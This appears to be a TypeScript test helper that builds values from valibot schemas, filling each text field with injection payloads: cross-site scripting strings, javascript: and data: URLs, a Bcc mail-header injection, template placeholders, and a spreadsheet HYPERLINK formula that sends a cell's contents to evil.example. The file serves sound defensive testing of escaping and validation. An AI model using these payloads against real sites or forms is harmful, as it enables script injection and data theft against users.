import * as v from "valibot";

/**
 * Texts that end an attribute, an element or a script, or that have a meaning in a template, a URL, a header or
 * a spreadsheet.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  `"'><hostile onclick=alert(1)></title></script></style></textarea><script>alert(1)</script>`,
  `</script><!--<script><hostile onclick=alert(1)>]]>--><img src=x onerror=alert(1)>{{store.name}}{{unknown}}`,
  "$& $1 $` $' {name} {tagline} \u2028\u2029\u202e\u0301\ufeff\uffff&lt;hostile onclick=alert(1)&gt; &#60;hostile&#62; %00 %",
  "one\n\n<hostile onclick=alert(1)>\r\nBcc: other@evil.example\n</p></div>{{store.name}}",
  `<h2 id="root" onclick="alert(1)">A <hostile>{{store.name}}</h2><p style="x" onclick="alert(1)">b</p><h3><script>alert(1)</script>"'></h3><p><a href="javascript:alert(1)">c</a><img src="/x" onerror="alert(1)" alt="'"></p><div data-product="serum"></div><div data-product="'"></div><table><tr><td><h2>d</h2></table></div></article><svg onload=alert(1)>`,
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "https://evil.example/'onclick='alert(1)'&#34;&gt;&lt;hostile&gt;$&",
  "/'onclick='alert(1)'&#34;&gt;&lt;hostile&gt;$&",
  "https://evil.example/a,$&%00&#34;&gt;&lt;hostile&gt;/b.png",
  `'onclick='alert(1)'&quot;@evil.example`,
  `=HYPERLINK("https://evil.example/?"&A1),${"W".repeat(10_000)}`,
];

/** A field gets the longest of these beginnings of a hostile text that it accepts. */
const LENGTHS = [20_000, 5_000, 2_000, 1_000, 500, 300, 200, 100, 60, 40, 20, 12];

/** Values of fields that accept no hostile text: the first one that a field accepts is used. */
const SAMPLES = [
  "",
  "https://shop.example/a",
  "a@shop.example",
  "2027-03-31",
  "14:00",
  "12.50",
  "L8P",
  "Quebec",
  "00000000-0000-4000-8000-000000000000",
  "1",
];

/** The properties of valibot's schemas that the enumeration reads. */
type Node = v.GenericSchema & {
  entries?: Record<string, Node>;
  item?: Node;
  wrapped?: Node;
  literal?: unknown;
  options?: readonly unknown[];
  pipe?: readonly Node[];
};

let samples = 0;

/**
 * Lists values that a schema accepts. Each text field has each hostile text that it accepts in one of them,
 * unless a rule about several fields prevents that, and each choice is made once.
 *
 * @throws if there is no value; then a new kind of field needs a sample above
 * @example
 * listHostileValues(CategoryDraft); // [{ name: "\"'><hostile …", description: … }, …]
 */
export function listHostileValues(schema: v.GenericSchema): unknown[] {
  const values = listCandidates(schema as Node).filter((value) => v.is(schema, value));
  if (values.length > 0) return values;
  throw new Error(`no sample is valid for a field of the type ${schema.type}`);
}

function listCandidates(schema: Node): unknown[] {
  // A bounded array checks its length before its items.
  const { type, entries = {}, item, wrapped, options = [], literal } = findArray(schema) ?? schema;
  switch (type) {
    case "string":
    case "custom":
      return listTexts(schema);
    case "number":
      return [1, 5, 0].filter((value) => v.is(schema, value)).slice(0, 1);
    case "boolean":
      return [true];
    case "literal":
      return [literal];
    case "null":
      return [null];
    case "picklist":
      return [...options];
    case "object":
    case "strict_object":
      return listObjects(schema, entries);
    case "array":
      return item ? packItems(schema, listHostileValues(item)) : [];
    case "variant":
    case "union":
      return (options as Node[]).flatMap(listHostileValues);
    case "optional":
    case "exact_optional":
    case "nullable":
    case "nullish":
      return wrapped ? listOptional(schema, wrapped) : [];
    default:
      throw new Error(`the enumeration does not know the schema type ${type}`);
  }
}

/** The first part of a pipe is its schema without the pipe. */
function findArray(schema: Node): Node | undefined {
  if (schema.type === "array") return schema;
  for (const part of schema.pipe ?? []) {
    const found = part === schema ? undefined : findArray(part);
    if (found) return found;
  }
  return undefined;
}

function listTexts(schema: v.GenericSchema): string[] {
  const hostile = listHostileTexts(schema);
  if (hostile.length > 0) return hostile;
  samples += 1;
  // The first one is an identifier, which must be unique among several.
  const sample = [`text-${samples}`, ...SAMPLES].find((text) => v.is(schema, text));
  return sample === undefined ? [] : [sample];
}

const listHostileTexts = (schema: v.GenericSchema) =>
  listAcceptedTexts((text) => v.is(schema, text));

/** The longest beginning of each hostile text that a field accepts. */
export function listAcceptedTexts(accepts: (text: string) => boolean): string[] {
  const texts = HOSTILE_TEXTS.flatMap(
    (text) => LENGTHS.map((length) => text.slice(0, length)).find(accepts) ?? [],
  );
  return [...new Set(texts)];
}

/** An optional flag, number or text that can't be hostile keeps its default. */
function listOptional(schema: Node, wrapped: Node): unknown[] {
  const fallback: unknown = v.getDefault(schema);
  if (["number", "boolean"].includes(typeof fallback)) return [fallback];
  const values =
    wrapped.type === "string"
      ? listHostileTexts(schema)
      : listCandidates(wrapped).filter((value) => v.is(schema, value));
  return values.length > 0 ? values : [fallback];
}

/** Objects in which each value of each entry is once, if the other entries allow it. */
function listObjects(schema: Node, entries: Record<string, Node>): unknown[] {
  const lists = Object.entries(entries).map(
    ([key, entry]) => [key, listHostileValues(entry)] as const,
  );
  // Only a pipe has rules about several entries.
  const isValid = (value: object) => schema.pipe === undefined || v.is(schema, value);
  const base = findBase(schema, lists, isValid);
  const objects: { values: Record<string, unknown>; changed: Set<string> }[] = [];
  for (const [key, values] of lists)
    for (const value of values) {
      const change = { [key]: value };
      const object = objects.find(
        (one) => !one.changed.has(key) && isValid({ ...one.values, ...change }),
      );
      if (object) {
        object.values = { ...object.values, ...change };
        object.changed.add(key);
      } else if (isValid({ ...base, ...change }))
        objects.push({ values: { ...base, ...change }, changed: new Set([key]) });
    }
  return objects.length > 0 ? objects.map(({ values }) => values) : [base];
}

/** A valid object of some values of the entries; optional entries that contradict others are left out. */
function findBase(
  schema: v.GenericSchema,
  lists: readonly (readonly [string, readonly unknown[]])[],
  isValid: (value: object) => boolean,
): Record<string, unknown> {
  const count = Math.max(1, ...lists.map(([, values]) => values.length));
  const pick = (index: number) =>
    Object.fromEntries(lists.map(([key, values]) => [key, values[index % values.length]]));
  const candidates = Array.from({ length: count }, (_, index) => pick(index));
  const valid = candidates.find(isValid);
  if (valid) return valid;
  const issues = v.safeParse(schema, pick(0)).issues ?? [];
  const wrong = new Set(issues.map((issue) => String(issue.path?.[0]?.key)));
  return Object.fromEntries(Object.entries(pick(0)).filter(([key]) => !wrong.has(key)));
}

/** As few arrays as contain each item, in which the items are valid together. */
function packItems(schema: v.GenericSchema, items: readonly unknown[]): unknown[][] {
  const arrays: unknown[][] = [];
  for (const item of items) {
    const found = arrays.find((array) => v.is(schema, [...array, item]));
    if (found) found.push(item);
    else if (v.is(schema, [item])) arrays.push([item]);
  }
  return arrays.length > 0 ? arrays : [[]];
}
